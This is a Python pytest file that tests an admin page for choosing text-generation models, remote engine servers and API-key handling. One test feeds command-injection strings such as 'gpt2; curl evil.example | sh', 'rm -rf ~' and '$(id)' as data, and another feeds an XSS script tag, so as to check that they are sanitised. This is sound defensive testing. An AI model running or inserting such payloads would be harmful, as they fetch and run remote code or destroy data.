"""The admin's page of models, with an engine that answers as told over real HTTP."""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

import pytest
from pydantic import SecretStr
from sqlalchemy import select

from copydesk.audit import history
from copydesk.autodocs import default_model
from copydesk.autodocs.models import Autodoc
from copydesk.config import Environment
from copydesk.engine.inventory import ModelList, ModelRow

KEY = "sk-of-the-other-server"
SEED = ModelRow(
    id="seed@413fa265052573a7",
    name="seed",
    parameters=6_970_000,
    bytes=13_960_000,
    licence="MIT",
    trained_on="Old books",
    sha256="413fa265" * 8,
    verified=True,
    verified_at="2026-11-21T10:00:00+00:00",
    context=512,
    loaded=True,
    default=True,
    needed_bytes=93_000_000,
    fits=True,
    card={"source": "https://example.org/seed", "source_revision": "0123456789abcdef"},
)
GPT2 = ModelRow(
    id="gpt2@aa", name="gpt2", parameters=124_439_808, bytes=548_105_171, needed_bytes=530_000_000, fits=True
)
XL = ModelRow(id="gpt2-xl@bb", name="gpt2-xl", parameters=1_557_611_200, needed_bytes=3_300_000_000, fits=False)
OURS = ModelList([SEED, GPT2, XL], available_bytes=1_000_000_000, engine="copydesk-gpt2 1 int8")


@contextmanager
def server(answer: dict, status: int = 200, key: str = "") -> Iterator[SimpleNamespace]:
    """Answers /v1/models; notes who asked. With a `key` it refuses others."""
    seen = SimpleNamespace(url="", answer=answer, keys=[])

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            given = self.headers.get("Authorization", "").removeprefix("Bearer ")
            seen.keys.append(given)
            refused = key and given != key
            raw = json.dumps({"error": "no"} if refused else seen.answer).encode()
            self.send_response(401 if refused else status)
            self.send_header("Content-Length", str(len(raw)))
            self.end_headers()
            self.wfile.write(raw)

        def log_message(self, *words):
            pass

    running = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    running.daemon_threads = True
    seen.url = f"http://127.0.0.1:{running.server_port}"
    threading.Thread(target=running.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    yield seen
    running.shutdown()
    running.server_close()


@pytest.fixture
def settings_with(app, monkeypatch):
    """The application with other settings."""

    def change(**values):
        monkeypatch.setitem(app.config, "COPYDESK", app.config["COPYDESK"].model_copy(update=values))

    return change


@pytest.fixture
def engine(settings_with):
    with server(OURS.to_dict()) as running:
        settings_with(engine_url=running.url)
        yield running


@pytest.fixture
def no_engine(settings_with, free_port):
    settings_with(engine_url=f"http://127.0.0.1:{free_port}")


@pytest.fixture
def admin(as_person, cast):
    return as_person(cast.admin)


def words(answer) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", answer.text))


def chosen(session) -> str:
    return default_model.default_model(session)


def test_every_model_is_told_with_what_an_admin_needs(engine, admin, session, make_document):
    make_document("editing")
    make_document("drafting")
    page = words(admin.get("/admin/models"))
    assert "seed writes new drafts" in page
    for said in (
        "7.0 M parameters", "14 MB on disk", "93 MB needed", "512 tokens", "MIT", "Old books", "revision 01234567",
        "Verified: the weights are what the card says", "In memory", "2 documents with its drafts", "1 waiting",
        "1.0 GB of memory are available to the engine",
    ):  # fmt: skip
        assert said in page, said
    assert "Does not fit" in page
    assert "3.3 GB needed 1.0 GB available" in page
    assert "copydesk models pull gpt2-medium" in page
    assert "copydesk models pull gpt2-xl" not in page  # it is there


def test_the_documents_of_a_model_are_a_list(engine, admin, session, make_document):
    theirs, other = make_document("editing", title="Theirs"), make_document("editing", title="Other")
    draft = session.scalars(select(Autodoc).where(Autodoc.document_id == theirs.id)).one()
    draft.model = "gpt2"
    session.flush()
    assert 'href="/documents?model=gpt2"' in admin.get("/admin/models").text
    page = admin.get("/documents?model=gpt2").text
    assert str(theirs.id) in page
    assert str(other.id) not in page
    assert "Drafts by gpt2" in page
    assert "model=gpt2" in page.partition('class="tabs"')[2]


def test_another_model_is_used_and_the_audit_log_knows(engine, admin, cast, session, make_document):
    make_document("drafting")
    answer = admin.post("/admin/models/use", data={"name": "gpt2"}, follow_redirects=True)
    assert "New drafts are written by gpt2. 1 draft waits for seed and keeps it." in words(answer)
    assert chosen(session) == "gpt2"
    event = history(session, "desk", "model")[-1]
    assert (event.actor_id, event.action) == (cast.admin.id, "model.use")
    assert (event.before, event.after) == ({"model": "seed"}, {"model": "gpt2"})
    assert "Chosen by Grete Admin" in words(admin.get("/admin/models"))
    live = session.scalars(select(Autodoc.model)).all()
    assert live == ["seed"]
    make_document("drafting")
    assert sorted(session.scalars(select(Autodoc.model))) == ["gpt2", "seed"]


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("gpt2-xl", "gpt2-xl needs 3.3 GB of memory and 1.0 GB are available to the engine"),
        ("gpt2-large", "The engine has no model gpt2-large. It has: seed, gpt2, gpt2-xl. `copydesk models pull gpt2-l"),
        ("../etc", "neither a model"),
        ("", "neither a model"),
        ("https://user:pw@host/v1", "No user or password"),
    ],
)
def test_what_can_not_write_is_refused_in_words(engine, admin, session, name, says):
    answer = admin.post("/admin/models/use", data={"name": name}, follow_redirects=True)
    assert says in words(answer).replace("&#39;", "'")
    assert chosen(session) == "seed"
    assert history(session, "desk", "model") == []


def test_without_the_engine_the_page_says_so_and_nothing_is_changed(no_engine, admin, session, make_document):
    make_document("editing")
    page = words(admin.get("/admin/models"))
    assert "The engine could not be asked" in page
    assert "1 document with its drafts" in page
    answer = admin.post("/admin/models/use", data={"name": "gpt2"}, follow_redirects=True)
    assert "The engine was not there to be asked about gpt2" in words(answer)
    assert chosen(session) == "seed"


def test_an_engine_without_models(engine, admin):
    engine.answer = {"data": [], "available_bytes": 5, "engine": "e"}
    assert "The engine has no model" in words(admin.get("/admin/models"))


def test_models_of_earlier_drafts_are_not_forgotten(engine, admin, session, make_document):
    draft = session.scalars(select(Autodoc).where(Autodoc.document_id == make_document("editing").id)).one()
    draft.model = "gpt2-of-old"
    session.flush()
    page = words(admin.get("/admin/models"))
    assert "Used before" in page
    assert "gpt2-of-old 1 document" in page


def test_the_command_for_another_model_is_shown(engine, admin, settings_with):
    page = admin.get("/admin/models?fetch=https://huggingface.co/distilbert/distilgpt2").text
    assert ".venv/bin/copydesk models pull distilbert/distilgpt2" in page
    assert "<script" not in admin.get("/admin/models?fetch=<script>alert(1)</script>").text.partition('id="fetch"')[2]
    settings_with(environment=Environment.PRODUCTION)
    assert "run --rm models pull gpt2-medium" in admin.get("/admin/models").text


@pytest.mark.parametrize(
    "typed",
    [
        "gpt2; curl evil.example | sh",
        "gpt2\nrm -rf ~",
        "gpt2 && id",
        "$(id)",
        "`id`",
        "-h",
        "a/-x",
        "gpt2\u202e",
        "gрt2",
        "a'b",
    ],
    ids=ascii,
)
def test_a_command_holds_no_more_than_a_name(engine, admin, typed):
    """It is there to be pasted into a terminal."""
    page = admin.get("/admin/models", query_string={"fetch": typed}).text
    commands = re.findall(r'<code class="command">(.*?)</code>', page, re.DOTALL)
    assert commands
    assert all(re.fullmatch(r"[\w ./:#-]+", command, re.ASCII) for command in commands)
    assert not any("evil" in command or "id" in command.split() for command in commands)


THEIRS = {"object": "list", "data": [{"id": "their-gpt2", "object": "model"}]}


def test_another_server_is_checked_then_used(engine, admin, session, settings_with):
    with server(THEIRS, key=KEY) as other:
        settings_with(remote_engine_keys=SecretStr(json.dumps({f"{other.url}/v1": KEY})))
        form = {"url": f"{other.url}/v1", "model": "their-gpt2"}
        answer = admin.post("/admin/models/server", data=form | {"act": "check"})
        assert f"{other.url}/v1 answers and has their-gpt2" in words(answer)
        assert chosen(session) == "seed"
        answer = admin.post("/admin/models/server", data=form | {"act": "use"}, follow_redirects=True)
        assert f"New drafts are written by {other.url}/v1#their-gpt2." in words(answer)
        assert "Another server writes new drafts" in words(answer)
        assert set(other.keys) == {KEY}
    assert chosen(session) == f"{other.url}/v1#their-gpt2"
    assert KEY not in answer.text
    assert KEY not in str([event.after for event in history(session, "desk", "model")])
    assert KEY not in engine.keys  # each server gets its own
    assert "Another server writes new drafts" in words(admin.get("/admin/models"))  # also when it is gone


@pytest.mark.parametrize(
    ("url", "model", "says"),
    [
        ("", "", "Please enter the server"),
        ("seed", "", "begins with https:// or http://"),
        ("https://user:pw@host/v1", "", "No user or password"),
        ("{other}/v1", "their-gpt3", "has no model their-gpt3. It has: their-gpt2"),
        ("http://127.0.0.1:9/v1", "", "http://127.0.0.1:9/v1 does not answer"),
    ],
)
def test_a_server_that_can_not_be_used_is_told_in_the_form(engine, admin, session, url, model, says):
    with server(THEIRS) as other:
        form = {"url": url.format(other=other.url), "model": model, "act": "use"}
        answer = admin.post("/admin/models/server", data=form)
    assert answer.status_code == 422
    assert says in words(answer)
    assert form["url"] in answer.text
    assert chosen(session) == "seed"


def test_a_server_that_refuses_the_key_is_told_where_keys_are_set(engine, admin):
    with server(THEIRS, key=KEY) as other:
        answer = admin.post("/admin/models/server", data={"url": other.url, "model": "", "act": "check"})
    assert "refuses this desk&#39;s key. Set it in REMOTE_ENGINE_KEYS" in words(answer)


def test_the_page_asks_the_database_little(engine, admin, make_document, count_queries):
    for _ in range(3):
        make_document("editing")
    with count_queries() as statements:
        admin.get("/admin/models")
    assert len([statement for statement in statements if statement.startswith("SELECT")]) <= 8
